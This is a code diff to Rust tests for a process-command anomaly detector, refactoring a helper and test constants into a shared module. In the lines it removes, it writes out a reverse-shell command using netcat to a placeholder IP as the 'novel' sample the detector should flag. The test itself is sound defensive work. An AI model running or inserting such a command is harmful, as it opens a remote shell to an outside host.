@@ -7,12 +7,13 @@ use std::time::{Duration, Instant};
 use anomaly_baseline::{
     Day, Engine, RowState, Score, Settings, Sighting, Standing, Teach, Verdict, WorkloadStatus,
 };
-use anomaly_vectorizer::canonical::Raw;
-use anomaly_vectorizer::scrub::Scrubber;
-use anomaly_vectorizer::{Context, Execution};
+use anomaly_vectorizer::Context;
 
+#[path = "support/lines.rs"]
+mod lines;
 mod support;
 
+use lines::{NOVEL, execution};
 use support::Memory;
 
 const DAY: i64 = 86_400_000_000;
@@ -29,15 +30,6 @@ const ROUTINE: [&str; 6] = [
     "tar -czf /var/backups/etc.tar.gz /etc",
     "find /tmp -mtime +7 -delete",
 ];
-
-const NOVEL: &str = "nc -e /bin/sh 203.0.113.7 4444";
-
-fn execution(line: &str) -> Execution {
-    let (name, area) = (line.split(' ').next().unwrap_or_default(), line.replace(' ', "\0") + "\0");
-    let (name, arguments) = (name.as_bytes(), area.as_bytes());
-    Raw { name, parent: b"cron", grandparent: b"systemd", arguments, ..Raw::default() }
-        .execution(&Scrubber::default())
-}
 
 fn see_at(engine: &Engine, line: &str, day: Day, time: i64) -> Verdict {
     let (execution, context, teach) = (execution(line), Context::default(), Teach::Policy);
